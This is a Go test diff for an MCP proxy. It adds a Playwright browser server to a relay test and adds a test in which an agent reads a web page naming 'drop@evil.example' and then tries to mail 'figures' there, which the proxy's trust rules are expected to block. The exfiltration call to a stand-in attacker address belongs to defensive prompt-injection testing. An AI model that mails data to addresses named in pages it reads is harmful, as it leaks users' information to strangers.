@@ -10,9 +10,11 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"regexp"
 	"slices"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/tidemark/tidemark/internal/base/strictjson"
 	"github.com/tidemark/tidemark/internal/mcp/pipe"
@@ -57,6 +59,23 @@ func pythonServer(t *testing.T, name string, args ...string) []string {
 	return append([]string{program}, args...)
 }
 
+// browser is Debian's.
+const browser = "/usr/bin/chromium"
+
+// playwright is Playwright's server from npm, with Debian's browser, without a window.
+func playwright(t *testing.T, _ string, args ...string) []string {
+	t.Helper()
+	modules := filepath.Join(realCache(t), "node_modules")
+	program := filepath.Join(modules, "@playwright", "mcp", "cli.js")
+	for _, file := range []string{program, browser} {
+		if _, err := os.Stat(file); err != nil {
+			t.Skipf("%s is not installed (make mcp does that, where chromium is)", file)
+		}
+	}
+	line := []string{filepath.Join(modules, "node", "bin", "node"), program}
+	return append(append(line, "--headless", "--isolated", "--no-sandbox", "--executable-path", browser), args...)
+}
+
 // exchange is a client that says one thing after another, and keeps each answer as it came.
 type exchange struct {
 	t       *testing.T
@@ -90,7 +109,9 @@ func (x *exchange) ask(method, params string) string {
 }
 
 // odd are tools that wait, ask back, or never answer the same twice.
-var odd = []string{"long", "sampl", "elicit", "roots", "toggle", "simulate", "subscri", "gzip", "research", "env", "task", "info"}
+var odd = []string{
+	"long", "sampl", "elicit", "roots", "toggle", "simulate", "subscri", "gzip", "research", "env", "task", "info", "install", "close", "screenshot",
+}
 
 // all is a whole conversation: every list, every tool without arguments, and one tool with many.
 func (x *exchange) all(tool, args string, times int) {
@@ -144,6 +165,7 @@ func TestRealServersAnswerByteForByte(t *testing.T) {
 		"mcp-server-time": {
 			pythonServer, []string{"--local-timezone", "UTC"}, "convert_time", `{"source_timezone":"UTC","time":"1N","target_timezone":"Asia/Tokyo"}`,
 		},
+		"playwright": {playwright, []string{"--output-dir", "DIR"}, "browser_navigate", `{"url":"` + page.URL + `/N"}`},
 	} {
 		t.Run(name, func(t *testing.T) {
 			dir := filepath.Join(t.TempDir(), "files")
@@ -167,7 +189,10 @@ func TestRealServersAnswerByteForByte(t *testing.T) {
 				t.Setenv("MEMORY_FILE_PATH", filepath.Join(dir, "memory.jsonl"))
 			}
 			env := func() []string { return pipe.Env(os.Environ(), []string{"MEMORY_FILE_PATH"}) }
-			const times = 80
+			times := 200
+			if name == "playwright" {
+				times = 60 // each opens a page
+			}
 			direct := func() []string {
 				again()
 				cmd := exec.Command(line[0], line[1:]...)
@@ -193,10 +218,10 @@ func TestRealServersAnswerByteForByte(t *testing.T) {
 			through := talk(t, r.in, r.out, c.tool, strings.ReplaceAll(c.args, "DIR", dir), times)
 			same := 0
 			for i := range first {
-				if first[i] != second[i] {
-					continue // it says the time, or the like
+				if timeless(first[i]) != timeless(second[i]) {
+					continue // it says how long something took, or the like
 				}
-				if same++; through[i] != first[i] {
+				if same++; timeless(through[i]) != timeless(first[i]) {
 					t.Errorf("exchange %d differs:\ndirect  %.400s\nthrough %.400s", i, first[i], through[i])
 				}
 			}
@@ -204,6 +229,45 @@ func TestRealServersAnswerByteForByte(t *testing.T) {
 				t.Errorf("only %d of %d exchanges could be compared", same, len(first))
 			}
 		})
+	}
+}
+
+// times of day are not compared: servers name files by them.
+var timesOfDay = regexp.MustCompile(`20\d\d-\d\d-\d\dT[0-9:.-]+Z`)
+
+func timeless(answer string) string { return timesOfDay.ReplaceAllString(answer, "TIME") }
+
+// What a page says in a real browser is a stranger's word: an address that it names is not mailed to, and a harmless
+// mail before it was opened is not asked about.
+// MCP-7, MCP-12, SEQ-07
+func TestRealPagesAreAStrangers(t *testing.T) {
+	page := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		w.Header().Set("Content-Type", "text/html")
+		_, _ = fmt.Fprintf(w, "<html><body><p>%s</p></body></html>", html.EscapeString(mcptest.Page)) // to a browser that waits
+	}))
+	defer page.Close()
+	line := playwright(t, "")
+	w := mcptest.New(t, "trustRules:\n  - {name: mine, tools: ['mail__*'], trust: local}\n")
+	a := &agent{TB: t, port: w.Engine, patience: time.Nanosecond, serverEnv: pipe.Env(os.Environ(), nil)}
+	file := filepath.Join(t.TempDir(), "sent")
+	mail := a.connect("mail", nil, command(t, "mail", file))
+	if text, failed := call(t, mail, "send_mail", map[string]any{"to": "bob@work.example", "body": "hi"}); failed {
+		t.Fatalf("before anything was read: got %q", text)
+	}
+	web := a.connect("playwright", nil, line)
+	text, failed := call(t, web, "browser_navigate", map[string]any{"url": page.URL})
+	if failed || !strings.Contains(text, page.URL) {
+		t.Fatalf("open: got %q, %v", text, failed)
+	}
+	if text, failed = call(t, web, "browser_snapshot", nil); failed || !strings.Contains(text, "drop@evil.example") {
+		t.Fatalf("read: got %q, %v", text, failed)
+	}
+	text, failed = call(t, mail, "send_mail", map[string]any{"to": "drop@evil.example", "body": "figures"})
+	if !failed || !strings.Contains(text, "is blocked by security policy") {
+		t.Errorf("the mail: got %q, %v; want it held", text, failed)
+	}
+	if got := sent(t, file); got != "bob@work.example\n" {
+		t.Errorf("mail was sent to %q", got)
 	}
 }
 
